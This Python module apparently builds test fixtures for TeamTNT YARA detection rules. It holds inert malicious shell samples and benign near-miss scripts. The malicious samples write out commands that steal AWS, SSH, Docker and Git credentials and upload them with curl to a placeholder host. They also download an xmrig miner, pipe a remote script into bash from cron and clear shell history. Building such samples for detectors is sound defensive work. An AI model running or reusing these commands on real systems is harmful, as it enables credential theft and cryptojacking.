"""Inert samples and near-misses for signatures/rules/teamtnt.yar."""

from __future__ import annotations

from sample_blocks import HOST, INERT_NOTE, Builders, split, text


def teamtnt() -> dict[str, bytes]:
    return {
        "teamtnt-sh": text(
            "#!/bin/bash",
            f"exit 0  # {INERT_NOTE}",
            "# TeamTNT",
            "cp /usr/bin/chattr /usr/bin/tntrecht",
            "tntrecht -ia /etc/ld.so.preload; chattr -ia /root/.ssh/authorized_keys",
            "pkill -f kdevtmpfsi; pkill -f xmrig",
            "sysctl -w vm.nr_hugepages=128",
            "cat /root/.aws/credentials > /tmp/.c 2>/dev/null",
            "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ >> /tmp/.c",
            f"curl -F 'f=@/tmp/.c' http://{HOST}/up.php",
            f"curl -s http://{HOST}/bin/xmrig -o /usr/bin/dbused",
            "history -c",
        )
    }


def teamtnt_near() -> dict[str, bytes]:
    # A cloud admin's backup script: credentials, a miner-free fetch, no group marker.
    return {
        "cloud-backup-sh": text(
            "#!/bin/bash",
            "# nightly backup of the ops box",
            "cp /root/.aws/credentials /backup/aws-credentials",
            "curl -s https://example.org/latest/tool.tar.gz -o /tmp/tool.tar.gz",
            "chattr -i /backup/lock",
            "history -c",
        )
    }


def grabber() -> dict[str, bytes]:
    return {
        "grabber-sh": text(
            "#!/bin/bash",
            f"exit 0  # {INERT_NOTE}",
            "# TeamTNT",
            "for f in .aws/credentials .docker/config.json .s3cfg .git-credentials .pgpass .ssh/id_rsa; do",
            "  cat /root/$f >> /tmp/.cred 2>/dev/null",
            "done",
            f"curl -F 'up=@/tmp/.cred' http://{HOST}/upload.php",
        )
    }


def grabber_near() -> dict[str, bytes]:
    # A migration script copying the same credential files to a new host, with no group marker.
    return {
        "migrate-creds-sh": text(
            "#!/bin/bash",
            "for f in .aws/credentials .docker/config.json .s3cfg .git-credentials .pgpass .ssh/id_rsa; do",
            "  scp /root/$f newhost:/root/$f",
            "done",
            "curl -F 'log=@/var/log/migrate.log' https://example.org/report",
        )
    }


def tnt_cron() -> dict[str, bytes]:
    return {"crontab-root": text(split("*/5 * * * * curl -s http://teamtnt", ".red/ip_scan/init.sh | bash"))}


def tnt_cron_near() -> dict[str, bytes]:
    return {"crontab-news": text("*/5 * * * * curl -s https://example.org/teamtnt-report.txt -o /tmp/report.txt")}


SAMPLES: Builders = {
    "TeamTNT_Shell_Script": teamtnt,
    "TeamTNT_Credential_Stealer": grabber,
    "TeamTNT_Cron_Entry": tnt_cron,
}

NEARMISS: Builders = {
    "TeamTNT_Shell_Script": teamtnt_near,
    "TeamTNT_Credential_Stealer": grabber_near,
    "TeamTNT_Cron_Entry": tnt_cron_near,
}
